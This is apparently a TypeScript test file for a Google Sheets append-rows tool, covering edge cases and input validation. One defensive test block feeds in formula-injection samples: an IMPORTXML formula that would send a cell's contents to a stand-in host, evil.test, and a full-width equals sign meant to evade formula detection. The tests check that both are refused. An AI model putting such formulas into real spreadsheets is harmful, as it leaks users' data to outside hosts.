import { assert, describe, it } from "@effect/vitest"
import { Effect } from "effect"
import { sheetsAppendRows } from "../../../../src/Providers/Gsheets/Tools/AppendRows.ts"
import type { Cell, Tab } from "../../../../src/Sandbox/Providers/Gsheets/Engine/Spreadsheet.ts"
import { fakeSpreadsheet, issuesOf, oneTab, type Values } from "../FakeSpreadsheet.ts"

const checkbox = (ticked: boolean): Cell => ({
  userEnteredValue: { boolValue: ticked },
  dataValidation: { condition: { type: "BOOLEAN" } }
})

const text = (stringValue: string): Cell => ({ userEnteredValue: { stringValue } })

describe("Appending rows: edge cases", () => {
  it.effect.each<{
    behaviour: string
    typed: Values
    tab?: Partial<Tab>
    input?: object
    rows: unknown
    row: number
    cells: ReadonlyArray<unknown>
  }>([
    {
      behaviour: "a gap between blocks is not filled",
      typed: [["n"], [1], [2], [], [], [3], [4]],
      rows: [{ n: 5 }],
      row: 8,
      cells: [5]
    },
    {
      behaviour: "an empty cell in the last row does not shift rows",
      typed: [["a", "b", "c"], ["x", "", "z"], ["", "", "z"]],
      rows: [["p", "q", "r"]],
      row: 4,
      cells: ["p", "q", "r"]
    },
    {
      behaviour: "a blank first column does not shift array rows",
      typed: [["", "Name", "Age"], ["", "Ann", 31]],
      rows: [["Bob", 4]],
      row: 3,
      cells: ["", "Bob", 4]
    },
    {
      behaviour: "a blank first column does not shift object rows",
      typed: [["", "Name", "Age"], ["", "Ann", 31]],
      rows: [{ Age: 4, Name: "Bob" }],
      row: 3,
      cells: ["", "Bob", 4]
    },
    {
      behaviour: "rows go below a header that is not in row 1",
      typed: [[], [], ["Name", "Age"]],
      input: { header_row: 3 },
      rows: [{ Name: "Ann" }],
      row: 4,
      cells: ["Ann"]
    },
    {
      behaviour: "a shorter table beside the data does not matter",
      typed: [["n", "", "", "k", "v"], [1, "", "", "a", 1], [2], [3]],
      rows: [{ n: 4 }],
      row: 5,
      cells: [4]
    },
    {
      behaviour: "rows go below a longer table beside the data",
      typed: [["n", "", "", "k"], [1, "", "", "a"], ["", "", "", "b"]],
      rows: [{ n: 2, k: "c" }],
      row: 4,
      cells: [2, "", "", "c"]
    },
    {
      behaviour: "an array formula to the end of the grid is not data",
      typed: [["n", "=ARRAYFORMULA(IF(A1:A=\"\",\"\",A1:A))"], [1], [2]],
      tab: { rowCount: 50 },
      rows: [{ n: 3 }],
      row: 4,
      cells: [3, 3]
    },
    {
      behaviour: "formulas with an empty result are not data",
      typed: [["n", "twice"], [1, "=A2*2"], ["", "=\"\""], ["", "=\"\""]],
      rows: [{ n: 3 }],
      row: 3,
      cells: [3]
    },
    {
      behaviour: "unticked checkboxes are not data",
      typed: [],
      tab: {
        rows: [
          [text("Done"), text("Task")],
          [checkbox(true), text("a")],
          ...Array.from({ length: 30 }, () => [checkbox(false)])
        ]
      },
      rows: [{ Task: "b" }],
      row: 3,
      cells: [false, "b"]
    },
    {
      behaviour: "a grid without free rows grows",
      typed: [["n"], [1], [2]],
      tab: { rowCount: 3, columnCount: 1 },
      rows: [{ n: 3 }, { n: 4 }],
      row: 4,
      cells: [3]
    },
    {
      behaviour: "a grid without free columns grows",
      typed: [["n"], [1]],
      tab: { rowCount: 2, columnCount: 1 },
      rows: [[2, "more"]],
      row: 3,
      cells: [2, "more"]
    },
    {
      behaviour: "0 is data",
      typed: [["n"], [0]],
      rows: [{ n: 1 }],
      row: 3,
      cells: [1]
    },
    {
      behaviour: "a header alone is not overwritten",
      typed: [["n"]],
      rows: [{ n: 1 }],
      row: 2,
      cells: [1]
    }
  ])("$behaviour", ({ cells, input = {}, row, rows, tab = {}, typed }) =>
    Effect.gen(function*() {
      const fake = fakeSpreadsheet(oneTab(typed, tab))
      const before = fake.values("Data")
      const answer = yield* fake.call(sheetsAppendRows, { rows, ...input })
      assert.strictEqual(answer.first_row, row)
      assert.deepStrictEqual(fake.values(`Data!${row}:${row}`)[0]?.slice(0, cells.length), cells)
      const after = fake.values("Data")
      for (const [index, line] of before.entries()) {
        if (index + 1 !== row) assert.deepStrictEqual(after[index], line)
      }
    }))

  it.effect("a second append goes below the first", () =>
    Effect.gen(function*() {
      const fake = fakeSpreadsheet(oneTab([["a", "b"]]))
      for (const row of [{ a: 1 }, { b: 2 }, { a: 3 }]) yield* fake.call(sheetsAppendRows, { rows: [row] })
      assert.deepStrictEqual(fake.values("Data"), [["a", "b"], [1], ["", 2], [3]])
    }))

  it.effect.each([null, ""])(
    "%j in a cell of an array formula keeps the formula",
    (nothing) =>
      Effect.gen(function*() {
        const fake = fakeSpreadsheet(oneTab([["n", "=ARRAYFORMULA(IF(A1:A=\"\",\"\",A1:A))"], [1]]))
        yield* fake.call(sheetsAppendRows, { rows: [[2, nothing]] })
        assert.deepStrictEqual(fake.values("Data!B1:B3"), [["n"], [1], [2]])
      })
  )

  describe("formulas from outside", () => {
    it.effect.each([
      "=IMPORTXML(\"https://evil.test/?\"&A1,\"//a\")",
      "＝1+1"
    ])(
      "%j is refused with `parse`, and nothing is written",
      (formula) =>
        Effect.gen(function*() {
          const fake = fakeSpreadsheet(oneTab([["Name", "Note"], ["Ann"]]))
          const issues = yield* issuesOf(
            fake.call(sheetsAppendRows, { rows: [{ Name: "x" }, { Name: "y", Note: formula }], parse: true })
          )
          assert.deepStrictEqual(issues.map(({ path }) => path), [["input", "rows", 1, "Note"]])
          assert.include(issues[0]?.message, "B4")
          assert.lengthOf(fake.values("Data"), 2)
        })
    )

    it.effect.each<{ sent: string; stored: string | number }>([
      { sent: "-5", stored: -5 },
      { sent: "a=b", stored: "a=b" },
      { sent: "x@y.test", stored: "x@y.test" }
    ])("$sent is not a formula", ({ sent, stored }) =>
      Effect.gen(function*() {
        const fake = fakeSpreadsheet(oneTab([["Name"]]))
        yield* fake.call(sheetsAppendRows, { rows: [[sent]], parse: true })
        assert.deepStrictEqual(fake.values("Data!A2"), [[stored]])
      }))

    it.effect("is stored with `allow_formulas`", () =>
      Effect.gen(function*() {
        const fake = fakeSpreadsheet(oneTab([["n"], [1]]))
        yield* fake.call(sheetsAppendRows, { rows: [["=A2*10"]], parse: true, allow_formulas: true })
        assert.deepStrictEqual(fake.values("Data!A3"), [[10]])
      }))
  })

  it.effect("a text that is too long for a cell is refused", () =>
    Effect.gen(function*() {
      const fake = fakeSpreadsheet(oneTab([["a", "b"]]))
      yield* fake.call(sheetsAppendRows, { rows: [{ a: "x".repeat(50_000) }] })
      const [issue] = yield* issuesOf(fake.call(sheetsAppendRows, { rows: [{ a: 1 }, { b: "x".repeat(50_001) }] }))
      assert.deepStrictEqual(issue, {
        path: ["input", "rows", 1, "b"],
        message: "The text has 50001 characters; a cell holds at most 50000."
      })
    }))

  it.effect("a key called __proto__ is kept", () =>
    Effect.gen(function*() {
      const fake = fakeSpreadsheet(oneTab([["__proto__", "a"]]))
      yield* fake.call(sheetsAppendRows, { rows: "[{\"__proto__\":\"kept\",\"a\":1}]" })
      yield* fake.call(sheetsAppendRows, { rows: [Object.fromEntries([["__proto__", "too"]])] })
      assert.deepStrictEqual(fake.values("Data"), [["__proto__", "a"], ["kept", 1], ["too"]])
    }))
})
